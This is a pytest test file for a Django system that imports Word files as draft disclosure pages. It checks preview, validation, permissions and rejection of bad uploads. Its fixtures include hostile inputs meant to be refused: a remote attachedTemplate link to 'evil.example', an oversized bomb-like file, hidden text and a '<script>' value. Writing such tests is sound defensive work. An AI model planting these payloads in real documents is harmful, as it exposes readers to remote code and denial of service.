"""A Word file becomes a draft: shown first, taken in whole, stopped by what it hides."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils.timezone import now

from gongkai.agencies.permissions import NotAllowed
from gongkai.disclosure import importing
from gongkai.disclosure.importing import Facts, NotTaken
from gongkai.disclosure.models import Article, Picture, PolicyDocument, Section
from gongkai.disclosure.rows import RowsField
from gongkai.editorial import pages, reading, roots
from gongkai.editorial.errors import Incomplete
from tests.editorial.papers import Staff
from tests.editorial.site import home, reviewed, write
from tests.editorial.test_reading import FILE
from tests.factories import World
from tests.manuscripts.made import FEATURES, docx, links, p

pytestmark = pytest.mark.django_db
HEAD = p("明政办发〔2026〕5号", '<w:jc w:val="center"/>') + p("关于供水的通知", '<w:jc w:val="center"/>')
END = p("明湖区水务局", '<w:jc w:val="right"/>') + p("2026年3月5日", '<w:jc w:val="right"/>')
BODY = "".join(FEATURES[name].xml for name in ("merged", "tracked", "comment", "footnote", "picture", "heights"))
FACTS = {"title": "关于供水的通知", "attribute": "proactive", "document_number": "明政办发〔2026〕5号"}
POLICY = FACTS | {"kind": "policy", "issued_by": "明湖区水务局", "dated_on": "2026-03-05"}


OUTSIDE = links([("r", "attachedTemplate", "https://evil.example/t.dotm", "External")])


@pytest.fixture
def section(world: World, staff: Staff) -> Section:
    roots.ensure()
    return write(Section, home(world.office), staff.author, "供水")  # type: ignore[return-value]


@pytest.fixture
def author(staff: Staff) -> Client:
    client = Client()
    client.force_login(staff.author)
    return client


def sent(data: bytes, name: str = "通知.docx", **said: str) -> dict[str, object]:
    return {"file": SimpleUploadedFile(name, data), **said}


def test_from_the_file_to_the_public_page(author: Client, section: Section, world: World, staff: Staff) -> None:
    data, where = docx(HEAD + BODY + END), f"/office/content/{section.pk}/import/"
    assert "导入 Word 文件" in author.get(f"/office/editor/pages/{section.pk}/").content.decode()
    assert author.get(where).status_code == 200
    shown = author.post(where, sent(data, do="preview"))
    text = shown.content.decode()
    assert shown.status_code == 200
    for sentence in (
        'value="关于供水的通知"', 'value="明政办发〔2026〕5号"', 'value="明湖区水务局"', 'value="2026-03-05"',
        "已逐句核对", "领导还没同意", "三元", 'colspan="2"', "data:image/png", 'value="供水管网示意"',
    ):  # fmt: skip
        assert sentence in text, sentence
    assert (PolicyDocument.objects.count(), Picture.objects.count()) == (0, 0)
    digest = text.partition('name="digest" value="')[2].partition('"')[0]
    said = POLICY | {"alt-0": "供水管网示意", "do": "import", "digest": digest}
    # another file than the one that was seen, or a picture without words, makes nothing
    assert "不是刚才预览的文件" in author.post(where, sent(docx(HEAD + END), **said)).content.decode()
    assert author.post(where, sent(data, **said | {"alt-0": ""})).status_code == 422
    assert author.post(where, sent(data, **said | {"dated_on": "", "attribute": "withheld"})).status_code == 422
    assert (PolicyDocument.objects.count(), Picture.objects.count()) == (0, 0)
    answer = author.post(where, sent(data, **said))
    page = PolicyDocument.objects.get()
    assert answer["Location"] == f"/office/content/{page.pk}/"
    assert (page.live, page.agency, page.owner, str(page.dated_on)) == (False, world.office, staff.author, "2026-03-05")
    pages.newest(page).full_clean()
    # comments and deleted words are nowhere in what is kept of the page
    kept = str(page.latest_revision.content)
    assert "领导还没同意" not in kept
    assert "三元" not in kept
    assert author.get(f"/office/editor/pages/{page.pk}/edit/").status_code == 200
    reviewed(staff, page)
    public = Client().get(f"/c/{page.public.month}/{page.pk}.html").content.decode()
    for markup in (
        '<th scope="colgroup" colspan="2">金额（万元）</th>', '<th scope="col" rowspan="2">项目</th>',
        '<td>供水&lt;一期&gt;</td>', "100m<sup>2</sup>", '<li id="note-1" value="1">',
        '<a href="#note-1" id="mark-1" role="doc-noteref"><sup>[1]</sup></a>',
        'alt="供水管网示意"', '<div class="right">',
    ):  # fmt: skip
        assert markup in public, markup


@pytest.mark.parametrize(
    ("data", "name", "says"),
    [
        (docx(p("看得见。") + p("看不见的话", run="<w:vanish/>")), "a.docx", "隐藏的文字"),
        (docx(p("看得见。"), **{"word/comments.xml": "<broken"}), "a.docx", "损坏"),
        (docx(""), "a.docx", "没有文字"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.wps", "另存为"),
        (b"%PDF-1.7 not a word file", "a.pdf", ""),
        (docx(p("炸弹。"), **{"word/media/x.xml": b" " * 90_000_000}), "a.docx", "大得不正常"),
        (docx(p("外"), **{"word/_rels/settings.xml.rels": OUTSIDE}), "a.docx", "别处"),
    ],
)  # fmt: skip
def test_what_is_not_taken_says_why(author: Client, section: Section, data: bytes, name: str, says: str) -> None:
    answer = author.post(f"/office/content/{section.pk}/import/", sent(data, name, do="preview"))
    assert answer.status_code == 422
    assert says in answer.content.decode()
    assert 'name="digest"' not in answer.content.decode()


def test_a_mark_of_secrecy_in_a_corner_stops_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "file", FILE)
    data = docx(p("正文。"), **{"docProps/core.xml": "<a><subject>秘密★10年</subject></a>"})
    with pytest.raises(NotTaken, match="密级") as refused:
        importing.look_into(data, "a.docx")
    assert (refused.value.code, refused.value.finds) == ("MANUSCRIPT_MARKED", ("秘密★10年",))
    # the figures that Word hides in a table of contents conceal nothing
    assert importing.look_into(docx(p("目录") + p("12", run="<w:webHidden/>")), "a.docx").blocks


def test_all_of_it_or_nothing(section: Section, world: World, staff: Staff, monkeypatch: pytest.MonkeyPatch) -> None:
    made = importing.look_into(docx(FEATURES["picture"].xml), "图.docx")
    assert importing.title_from(made, "图.docx") == "图"
    facts = Facts("article", "图", "proactive")
    with pytest.raises(Incomplete, match="替代文字"):
        importing.take_in(section=section, made=made, facts=facts, alts=[" "], by=staff.author, at=now())
    with pytest.raises(NotAllowed):
        importing.take_in(section=section, made=made, facts=facts, alts=["x"], by=world.handler, at=now())

    def broken(*_: object, **__: object) -> None:
        raise RuntimeError

    monkeypatch.setattr(Article, "save_revision", broken)
    with pytest.raises(RuntimeError):
        importing.take_in(section=section, made=made, facts=facts, alts=["x"], by=staff.author, at=now())
    assert (Article.objects.count(), Picture.objects.count()) == (0, 0)


def test_other_agencies_and_other_posts_stay_outside(section: Section, world: World, client: Client) -> None:
    where = f"/office/content/{section.pk}/import/"
    assert client.get(where).status_code == 302
    client.force_login(world.handler)
    assert client.get(where).status_code == 403
    assert client.get("/office/content/999999/import/").status_code == 404


@pytest.mark.parametrize("wrong", ['"x"', "[1]", "[[1]]", '[[{"text": 1}]]', '[[{"text": "x", "down": 0}]]', "[["])
def test_a_table_that_is_none_is_not_kept(wrong: str) -> None:
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as refused:
        RowsField().clean(wrong)
    assert any("一" <= letter <= "龥" for letter in "".join(refused.value.messages))
    kept = RowsField().clean('[[{"text": "x", "across": 2, "extra": "<script>"}]]')
    assert kept == [[{"text": "x", "across": 2, "down": 1}]]
